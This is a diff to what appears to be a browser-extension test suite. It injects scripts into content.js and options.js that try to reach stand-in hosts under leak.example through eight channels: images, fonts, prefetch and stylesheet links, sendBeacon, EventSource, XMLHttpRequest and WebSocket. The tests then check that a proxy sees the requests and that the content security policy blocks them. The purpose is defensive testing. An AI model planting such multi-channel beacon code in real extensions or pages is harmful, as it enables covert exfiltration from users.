@@ -39,6 +39,23 @@ const BREACHES = {
   'a content script': (read, write) => write('content.js', `fetch('${LEAK}/').catch(() => {});\n${read('content.js')}`),
 };
 
+/** Every way of asking that a script has beside `fetch`. Each has a host: of what is encrypted the proxy hears no more. */
+const WAYS = ['image', 'font', 'prefetch', 'beacon', 'events', 'style', 'request', 'socket'];
+const TRIES = `{
+  const tries = [
+    () => { new Image().src = 'http://image.leak.example/'; },
+    () => new FontFace('leak', 'url(http://font.leak.example/)').load().catch(() => {}),
+    () => document.documentElement.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'http://prefetch.leak.example/' })),
+    () => document.documentElement.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://style.leak.example/' })),
+    () => navigator.sendBeacon('http://beacon.leak.example/', 'x'),
+    () => new EventSource('http://events.leak.example/'),
+    () => { const request = new XMLHttpRequest(); request.open('GET', 'http://request.leak.example/'); request.send(); },
+    () => new WebSocket('ws://socket.leak.example/'),
+  ];
+  for (const attempt of tries) try { attempt(); } catch {}
+}`;
+const seenWays = (urls) => WAYS.filter((way) => urls.some((url) => url.includes(`${way}.leak.example`)));
+
 for (const browser of wanted) {
   describe(browser, () => {
     let server;
@@ -90,6 +107,34 @@ for (const browser of wanted) {
         assert.ok(strangers.length > 0 && strangers.every((url) => url.includes('leak.example')), `seen: ${strangers}`);
       });
     }
+
+    test('whatever way of asking is taken in a page, it is seen', async () => {
+      const folder = breach((read, write) =>
+        write('content.js', `if (self === top) addEventListener('load', () => ${TRIES});\n${read('content.js')}`),
+      );
+      const strangers = await use(folder);
+      fs.rmSync(folder, { recursive: true });
+      assert.deepEqual(seenWays(strangers), WAYS);
+    });
+
+    test('in our own pages the policy stops every one of them, and without it they are seen', async () => {
+      const trying = (policy) =>
+        breach((read, write) => {
+          write('options.js', `${TRIES}\n${read('options.js')}`);
+          if (policy) return;
+          const manifest = JSON.parse(read('manifest.json'));
+          manifest.content_security_policy.extension_pages = "script-src 'self' 'wasm-unsafe-eval'; object-src 'self'";
+          write('manifest.json', JSON.stringify(manifest));
+        });
+      for (const policy of [true, false]) {
+        const folder = trying(policy);
+        const strangers = await use(folder);
+        fs.rmSync(folder, { recursive: true });
+        // Firefox fetches nothing ahead for pages of extensions.
+        const ways = browser === 'firefox' ? WAYS.filter((way) => way !== 'prefetch') : WAYS;
+        assert.deepEqual(policy ? strangers : seenWays(strangers), policy ? [] : ways);
+      }
+    });
 
     test('the content security policy stops a background that tries', async () => {
       const folder = breach((read, write) =>
